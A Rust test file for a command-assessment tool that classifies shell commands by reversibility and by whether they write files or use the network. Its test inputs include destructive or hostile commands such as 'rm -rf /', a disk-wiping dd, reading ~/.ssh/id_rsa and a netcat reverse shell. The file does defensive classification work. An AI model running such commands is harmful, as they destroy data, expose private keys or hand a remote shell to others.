//! What commands do, and whether it can be undone: the examples of `rules/effects.toml`, and texts as a whole.

use crate::assess::{Flags, Options, assess};
use crate::effect::Reversibility;

fn undone(text: &str) -> Reversibility {
    assess(text, &Options::default()).reversibility
}

#[test]
fn every_command_does_what_its_examples_say() {
    let file = concat!(env!("CARGO_MANIFEST_DIR"), "/rules/effects.toml");
    let table: toml::Table = std::fs::read_to_string(file).unwrap().parse().unwrap();
    for command in table["command"].as_array().unwrap() {
        let wanted: Reversibility = command["reversibility"].clone().try_into().unwrap();
        for example in command["match"].as_array().unwrap().iter().filter_map(toml::Value::as_str) {
            assert_eq!(undone(example), wanted, "{example}");
        }
        for example in command["no_match"].as_array().unwrap().iter().filter_map(toml::Value::as_str) {
            assert_ne!(undone(example), wanted, "{example}");
        }
    }
}

#[test]
fn a_text_is_as_bad_as_the_worst_it_does() {
    for (text, expected) in [
        ("ls -la", Reversibility::Reversible),
        ("git log | head", Reversibility::Reversible),
        ("cat ~/.ssh/id_rsa", Reversibility::Reversible),
        ("mkdir x && git add x", Reversibility::Recoverable),
        ("git add . && git commit -m x", Reversibility::Recoverable),
        ("env mkdir x", Reversibility::Recoverable),
        ("mkdir x; ./unknown", Reversibility::Unknown),
        ("some-program --do-it", Reversibility::Unknown),
        ("echo hi > file", Reversibility::Unknown),
        ("mkdir x; rm -rf build", Reversibility::Irreversible),
        ("git push --force", Reversibility::Irreversible),
        ("./unknown; npm publish", Reversibility::Irreversible),
        ("dd if=/dev/zero of=/dev/sda", Reversibility::Irreversible),
        ("sudo bash -c 'git push'", Reversibility::Irreversible),
        ("echo 'unterminated", Reversibility::Unknown),
        ("", Reversibility::Unknown),
    ] {
        assert_eq!(undone(text), expected, "{text}");
    }
}

#[test]
fn flags_come_from_the_rules() {
    let flags = |text: &str| assess(text, &Options::default()).flags;
    for text in ["rm x", "mkdir x", "git commit -m x", "echo a > b", "rm -rf /", "npm ci"] {
        assert!(flags(text).writes, "{text}");
    }
    for text in ["curl https://x", "git push", "npm ci", "nc -e /bin/sh x 1", "npm publish", "wget https://x"] {
        assert!(flags(text).network, "{text}");
    }
    for text in ["ls", "git status", "cat a | grep b"] {
        assert_eq!(flags(text), Flags::default(), "{text}");
    }
}
